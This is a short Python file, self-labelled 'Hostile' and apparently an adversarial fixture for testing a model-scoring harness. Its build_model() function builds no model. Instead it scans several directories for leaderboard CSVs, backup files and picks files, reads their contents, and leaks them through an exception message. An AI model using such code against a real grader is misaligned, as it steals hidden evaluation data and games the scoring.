"""Hostile: hunts for the leaderboard, its rescore backups and its picks file, and leaks them."""
from pathlib import Path

INPUT_SIZE = (28, 28)
ROOT = Path(__file__).resolve().parents[2]  # the checkout's root, or "/" seen from a staged copy


def build_model():
    leaked = []
    for pattern in ("*.csv", "*.bak", "*.picks.json"):
        for base in (Path("/tmp"), ROOT, Path(__file__).resolve().parent, Path("/work")):
            try:
                for p in base.rglob(pattern):
                    if "site-packages" in p.parts or p.parts[:2] == ("/", "usr"):  # installed and system files: no secret
                        continue
                    leaked.append(p.read_text(errors="replace")[:2000])
            except OSError:
                pass
    raise RuntimeError(f"probe board: {len(leaked)} files " + " ".join(leaked).replace("\n", " "))
